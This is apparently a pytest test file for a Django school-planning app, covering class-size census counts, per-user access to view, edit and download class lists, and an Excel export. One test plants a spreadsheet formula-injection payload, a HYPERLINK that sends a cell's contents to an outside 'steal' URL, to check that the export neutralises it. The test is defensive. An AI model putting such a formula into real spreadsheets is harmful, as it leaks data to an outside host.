"""A school's class census: Alice may read, download and correct her school's, nobody
else's."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from eduplan.construction.models import SchoolClass
from eduplan.construction.selectors import class_census_summary
from eduplan.construction.services import school_class_set_pupils
from eduplan.core.errors import InputError
from eduplan.org.models import OrgUnit


@pytest.fixture
def classes(city):
    rows = [
        SchoolClass(school=city.jinshui_one, school_year=2016, grade=1, number=1, pupils=45),
        SchoolClass(school=city.jinshui_one, school_year=2016, grade=1, number=2, pupils=58),
        SchoolClass(school=city.jinshui_two, school_year=2016, grade=1, number=1, pupils=70),
        SchoolClass(school=city.erqi_one, school_year=2016, grade=1, number=1, pupils=66),
        SchoolClass(school=city.erqi_one, school_year=2013, grade=1, number=1, pupils=65),
    ]
    return {
        f"{c.school.code}/{c.school_year}/{c.number}": c
        for c in SchoolClass.objects.bulk_create(rows)
    }


def test_census_counts_large_and_oversized_classes_over_a_subtree(
    city, classes, django_assert_num_queries
):
    with django_assert_num_queries(1):
        rows = {r["school_year"]: r for r in class_census_summary(unit=city.root)}
    assert rows[2016]["classes"] == 4
    assert rows[2016]["pupil_total"] == 45 + 58 + 70 + 66
    assert rows[2016]["large"] == 1  # 58; 56–65 only by default
    assert rows[2016]["huge"] == 2  # 70 and 66
    assert rows[2013]["large"] == 1  # 65 is still 大班额


def test_large_classes_may_include_oversized_ones_by_setting(city, classes, settings):
    settings.EDUPLAN_LARGE_CLASS_INCLUDES_HUGE = True
    rows = {r["school_year"]: r for r in class_census_summary(unit=city.root)}
    assert rows[2016]["large"] == 3


@pytest.mark.parametrize(
    ("who", "school", "status"),
    [
        ("alice", "410105-P1", 200),
        ("alice", "410105-P2", 403),
        ("alice", "410103-P1", 403),
        ("bob", "410105-P2", 200),
        ("bob", "410103-P1", 403),
        ("charlie", "410105-P1", 403),
    ],
)
def test_class_list_is_scoped(client, city, classes, who, school, status):
    client.force_login(city.users[who])
    assert client.get(f"/units/{school}/classes/").status_code == status


def test_alice_corrects_a_class_in_her_school(client, city, classes):
    target = classes["410105-P1/2016/2"]
    client.force_login(city.users["alice"])
    response = client.post(f"/classes/{target.pk}/edit/", {"pupils": "55"})
    assert response.status_code == 302
    target.refresh_from_db()
    assert target.pupils == 55


@pytest.mark.parametrize(
    ("who", "key"),
    [
        ("alice", "410105-P2/2016/1"),
        ("alice", "410103-P1/2016/1"),
        ("bob", "410103-P1/2016/1"),
        ("lee", "410105-P1/2016/1"),
        ("sue", "410105-P1/2016/1"),
    ],
)
def test_nobody_changes_a_class_outside_their_scope_or_role(client, city, classes, who, key):
    target = classes[key]
    before = target.pupils
    client.force_login(city.users[who])
    assert client.get(f"/classes/{target.pk}/edit/").status_code == 403
    assert client.post(f"/classes/{target.pk}/edit/", {"pupils": "20"}).status_code == 403
    target.refresh_from_db()
    assert target.pupils == before


def test_an_enrolment_out_of_range_is_refused_with_a_message_and_nothing_changes(
    client, city, classes
):
    target = classes["410105-P1/2016/1"]
    client.force_login(city.users["alice"])
    response = client.post(f"/classes/{target.pk}/edit/", {"pupils": "400"})
    assert response.status_code == 200
    assert "is-invalid" in response.content.decode()
    target.refresh_from_db()
    assert target.pupils == 45


def test_the_service_itself_refuses_out_of_range_and_out_of_scope(city, classes):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(InputError, match="班级人数须在 1 至 150 之间"):
        school_class_set_pupils(
            user=city.users["alice"], school_class=classes["410105-P1/2016/1"], pupils=0
        )
    with pytest.raises(PermissionDenied, match="您无权在此执行该操作"):
        school_class_set_pupils(
            user=city.users["alice"], school_class=classes["410105-P2/2016/1"], pupils=40
        )


# The class list as a workbook --------------------------------------------------------

HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'


def _workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_bob_downloads_a_schools_classes_as_the_page_lists_them(client, city, classes):
    client.force_login(city.users["bob"])
    url = "/units/410105-P1/classes/"
    sheet = _workbook(client.get(url, {"export": "classes"}))
    assert sheet["A1"].value == "金水一小 · 班级 · 2016"
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows == [(1, 1, 45), (1, 2, 58)]  # numbers, not text
    page = client.get(url).content.decode()
    listed = re.findall(r'<tr><td>(\d+)</td><td>(\d+)</td><td class="num">(\d+)</td>', page)
    assert [tuple(int(v) for v in row) for row in listed] == rows
    assert 'href="?export=classes" download' in page


@pytest.mark.parametrize(
    ("who", "school", "status"),
    [
        ("alice", "410105-P1", 200),
        ("alice", "410105-P2", 403),
        ("charlie", "410105-P1", 403),
        ("dora", "410105-P1", 403),
        ("bob", "410103-P1", 403),
        ("dora", "410103-P1", 200),
    ],
)
def test_the_class_download_is_refused_where_the_page_is(
    client, city, classes, who, school, status
):
    client.force_login(city.users[who])
    assert client.get(f"/units/{school}/classes/", {"export": "classes"}).status_code == status


def test_a_school_name_typed_as_a_formula_comes_out_as_text(client, city, classes):
    OrgUnit.objects.filter(pk=city.erqi_one.pk).update(name=HOSTILE)
    client.force_login(city.users["charlie"])
    sheet = _workbook(client.get("/units/410103-P1/classes/", {"export": "classes"}))
    title = sheet["A1"]
    assert title.value.startswith(HOSTILE) and title.data_type == "s" and title.quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_table_the_class_list_does_not_have_is_not_found(client, city, classes):
    client.force_login(city.users["alice"])
    assert client.get("/units/410105-P1/classes/", {"export": "orders"}).status_code == 404


@pytest.mark.parametrize("export", [{}, {"export": "classes"}], ids=["page", "download"])
def test_the_class_list_makes_no_more_queries_for_many_classes_than_for_two(
    client, city, classes, export, django_assert_max_num_queries
):
    client.force_login(city.users["alice"])
    url = "/units/410105-P1/classes/"
    with CaptureQueriesContext(connection) as two:
        assert client.get(url, export).status_code == 200
    SchoolClass.objects.bulk_create(
        SchoolClass(school=city.jinshui_one, school_year=2016, grade=2, number=n, pupils=40)
        for n in range(1, 11)
    )
    with django_assert_max_num_queries(len(two.captured_queries)):
        response = client.get(url, export)
    if export:
        assert _workbook(response).max_row == 2 + 12
    else:
        assert response.content.decode().count('<td class="num">') == 12
